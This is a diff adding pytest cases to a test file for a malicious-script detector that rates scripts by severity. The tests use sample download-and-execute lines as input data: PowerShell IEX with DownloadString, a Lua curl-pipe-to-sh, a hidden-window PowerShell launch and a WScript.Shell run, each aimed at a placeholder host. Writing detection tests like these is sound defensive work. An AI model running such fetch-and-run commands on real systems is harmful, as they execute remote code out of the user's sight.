@@ -102,3 +102,24 @@ def test_a_set_up_script_that_fetches_an_installer_in_the_open_is_low() -> None:
 
 def test_text_about_scripts_is_no_script() -> None:
     assert severities(detector, b"Type @echo off in the first line.", "manual.txt") == []
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "utf-16"])
+def test_a_script_is_judged_alike_in_letters_of_one_and_two_bytes(encoding: str) -> None:
+    fetching = "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.org/a')"
+    starting = 'new ActiveXObject("WScript.Shell").Run("cmd /c ver")'
+    assert severities(detector, fetching.encode(encoding), "a.ps1") == [Severity.MEDIUM]
+    assert severities(detector, starting.encode(encoding), "a.js") == [Severity.MEDIUM]
+
+
+def test_commands_in_a_window_that_nobody_sees_are_medium() -> None:
+    assert severities(detector, b"Run, powershell -w hidden -c calc,,Hide\n", "a.ahk") == [Severity.MEDIUM]
+
+
+def test_what_lua_fetches_and_runs_counts() -> None:
+    assert severities(detector, b'os.execute("curl http://example.org/a | sh")\n', "a.lua") == [Severity.MEDIUM]
+
+
+def test_a_script_of_remarks_alone_is_low() -> None:
+    assert severities(detector, b"' Nothing in here.\r\nREM really\r\n", "a.vbs") == [Severity.LOW]
+    assert severities(detector, b"' Something in here.\r\nx = 1\r\n", "a.vbs") == [Severity.MEDIUM]
